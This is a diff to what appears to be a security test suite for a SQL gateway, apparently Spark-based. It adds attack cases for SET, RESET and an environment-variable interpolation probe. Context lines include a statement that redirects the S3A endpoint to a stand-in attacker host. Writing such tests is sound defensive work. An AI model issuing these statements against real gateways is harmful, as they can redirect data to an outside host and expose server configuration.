@@ -173,6 +173,14 @@ ATTACKS: Final = (
         text="SET spark.hadoop.fs.s3a.endpoint = evil.example.org",
         allowed=_FOR_ALL_BUT_ADMINS,
     ),
+    Attack(name="all settings", text="SET", allowed=_FOR_ALL_BUT_ADMINS),
+    Attack(name="settings as they were", text="RESET", allowed=_FOR_ALL_BUT_ADMINS),
+    Attack(
+        name="the gateway's environment",
+        text="SELECT '${{env:PATH}}'",
+        allowed=MappingProxyType(dict.fromkeys((Role.READER, Role.OWNER, Role.WRITER), True)),
+        answer="${{env:PATH}}",
+    ),
     # what is hidden in a text
     Attack(
         name="a statement in a text",
